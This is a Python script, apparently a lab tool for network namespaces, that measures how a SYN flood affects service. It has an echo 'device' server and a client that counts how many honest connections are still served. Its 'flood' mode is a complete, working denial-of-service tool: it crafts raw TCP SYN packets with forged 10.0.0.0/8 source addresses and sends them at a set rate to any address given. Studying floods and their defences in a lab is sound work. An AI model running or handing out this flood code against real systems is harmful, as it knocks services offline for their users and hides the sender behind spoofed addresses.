#!/usr/bin/env python3
"""A flood of SYNs with forged sources, and honest newcomers beside it, for the namespaces of lab.sh.

    synflood.py flood ADDRESS PORT RATE    sends until its input ends; prints "ready", and at the end how many in how long
    synflood.py ask ADDRESS PORT COUNT FROM...    newcomers one after another, from these addresses in turn; prints
                                           "served N of COUNT, the slowest after M ms"
    synflood.py device PORT                answers each byte with the same byte; prints "ready"

The sources are in 10.0.0.0/8, one SYN from each pair of address and port: a repeated one would take no place in the queue.
A newcomer gives up after two seconds, like people do. Needs root for "flood".
"""
import random
import select
import socket
import struct
import sys
import threading
import time

PATIENCE = 2


def checksum(data):
    total = sum(struct.unpack(f'!{len(data) // 2}H', data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(target, port, source):
    """One IPv4 packet with a SYN (RFC 791, RFC 9293); the kernel fills in the checksum of the IPv4 header."""
    here = random.randrange(1024, 65536)
    tcp = struct.pack('!HHIIBBHHH', here, port, random.getrandbits(32), 0, 5 << 4, 2, 64240, 0, 0)
    pseudo = source + target + struct.pack('!BBH', 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack('!H', checksum(pseudo + tcp)) + tcp[18:]
    head = struct.pack('!BBHHHBBH', 0x45, 0, 20 + len(tcp), random.getrandbits(16), 0, 64, socket.IPPROTO_TCP, 0)
    return head + source + target + tcp


def flood(address, port, rate):
    target = socket.inet_aton(address)
    packets = [syn(target, port, struct.pack('!BBBB', 10, i >> 8, i & 255, random.randrange(1, 255))) for i in range(65536)]
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        print('ready', flush=True)
        begin = time.monotonic()
        sent = 0
        while not select.select([sys.stdin], [], [], 0)[0]:
            due = int((time.monotonic() - begin) * rate)
            for packet in range(sent, min(due, sent + 1000)):
                try:
                    raw.sendto(packets[packet & 65535], (address, 0))
                except OSError:
                    pass  # The device's queue is full; this one is lost on the way.
            sent = min(due, sent + 1000)
            if sent == due:
                time.sleep(0.001)
        took = time.monotonic() - begin
    print(f'{sent} in {took:.1f} s, {sent / took:.0f} a second', flush=True)


def is_served(address, port, source):
    try:
        with socket.create_connection((address, port), PATIENCE, (source, 0)) as newcomer:
            newcomer.sendall(b'x')
            return newcomer.recv(1) == b'x'
    except OSError:
        return False


def ask(address, port, count, sources):
    served = 0
    slowest = 0
    for number in range(count):
        begin = time.monotonic()
        served += is_served(address, port, sources[number % len(sources)])
        slowest = max(slowest, time.monotonic() - begin)
    print(f'served {served} of {count}, the slowest after {slowest * 1000:.0f} ms', flush=True)


def answer(client):
    with client:
        while data := client.recv(4096):
            client.sendall(data)


def device(port):
    with socket.create_server(('', port), backlog=1024) as server:
        print('ready', flush=True)
        while True:
            client, _ = server.accept()
            threading.Thread(target=answer, args=(client,), daemon=True).start()


def main():
    words = sys.argv[1:]
    if len(words) == 4 and words[0] == 'flood':
        flood(words[1], int(words[2]), int(words[3]))
    elif len(words) > 4 and words[0] == 'ask':
        ask(words[1], int(words[2]), int(words[3]), words[4:])
    elif len(words) == 2 and words[0] == 'device':
        device(int(words[1]))
    else:
        sys.exit(__doc__)


if __name__ == '__main__':
    main()
